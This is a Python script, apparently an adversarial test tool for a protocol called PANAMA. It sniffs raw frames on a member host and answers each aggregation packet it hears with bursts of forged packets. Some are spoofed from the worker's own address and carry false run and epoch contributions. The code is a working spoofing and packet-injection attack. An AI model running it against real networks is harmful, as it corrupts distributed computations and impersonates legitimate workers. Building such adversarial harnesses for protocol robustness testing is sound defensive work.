# SPDX-License-Identifier: BSD-3-Clause
"""A stranger on a member's host, who hears what the worker sends and receives, and forges PANAMA's packets
as fast as it can: panama_stranger.py address|lies.

address: of any kind and about anything, from an address of its own.
lies: from the worker's address, contributions to runs and epochs that the worker is not in, nor will be soon.
"""

import random
import socket
import struct
import sys
import zlib

PORT = 17256
OWN_ADDRESS = bytes((10, 0, 0, 200))
ETHERNET, IPV4, UDP = 14, 20, 8
# docs/reference/wire/panama.md, without the last CRC
HEADER = struct.Struct(">IHHIBBBBIIHHHHQI")
AGGREGATION, RESULT, INQUIRY = 1, 2, 3
FIN, VERSION = 0x80, 0x1f
BURST = 64  # forgeries of one packet that was heard


def interface() -> str:
    return next(name for _, name in socket.if_nameindex() if name != "lo")


def checksum(header: bytes) -> int:
    total = sum(struct.unpack(f">{len(header) // 2}H", header))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def lies(fields: list) -> None:
    if random.getrandbits(1):
        fields[8] = random.getrandbits(32)
    else:
        fields[9] = (fields[9] + random.choice((-3, -2, -1, 1000, 1001))) & 0xffffffff


def anything(fields: list) -> None:
    fields[5] = random.choice((AGGREGATION, RESULT, INQUIRY))
    fields[8] ^= random.getrandbits(1)
    fields[9] = (fields[9] + random.randint(-1, 2)) & 0xffffffff


def forge(frame: bytes, mode: str) -> bytes:
    start = ETHERNET + IPV4 + UDP
    fields = list(HEADER.unpack_from(frame, start))
    payload = bytearray(frame[start + HEADER.size + 4:])
    (anything if mode == "address" else lies)(fields)
    fields[3] = random.choice((0, 1, fields[3], fields[3] + 1))
    fields[4] = (fields[4] & (FIN | VERSION)) | random.choice((0, 0x40))
    fields[11] = 1
    fields[13] = 0
    if fields[5] == INQUIRY:
        payload = bytearray()
        fields[10] = 0
    elif payload:
        payload[0] ^= 0x55
    fields[15] = zlib.crc32(payload)
    header = HEADER.pack(*fields)
    header += struct.pack(">I", zlib.crc32(header))
    body = header + bytes(payload)
    ip = bytearray(frame[ETHERNET:ETHERNET + IPV4])
    ip[2:4] = struct.pack(">H", IPV4 + UDP + len(body))
    ip[10:12] = b"\0\0"
    if mode == "address":
        ip[12:16] = OWN_ADDRESS
    ip[10:12] = struct.pack(">H", checksum(ip))
    udp = frame[ETHERNET + IPV4:ETHERNET + IPV4 + 4] + struct.pack(">HH", UDP + len(body), 0)
    return frame[:ETHERNET] + bytes(ip) + udp + body


def is_contribution(frame: bytes) -> bool:
    return (len(frame) >= ETHERNET + IPV4 + UDP + HEADER.size + 4 and frame[12:14] == b"\x08\x00"
            and frame[ETHERNET + 9] == 17 and frame[36:38] == struct.pack(">H", PORT)
            and frame[ETHERNET + IPV4 + UDP + 13] == AGGREGATION)


def main() -> None:
    mode = sys.argv[1]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as line:
        line.bind((interface(), 0))
        while True:
            frame = line.recv(65536)
            for _ in range(BURST if is_contribution(frame) else 0):
                line.send(forge(frame, mode))


if __name__ == "__main__":
    main()
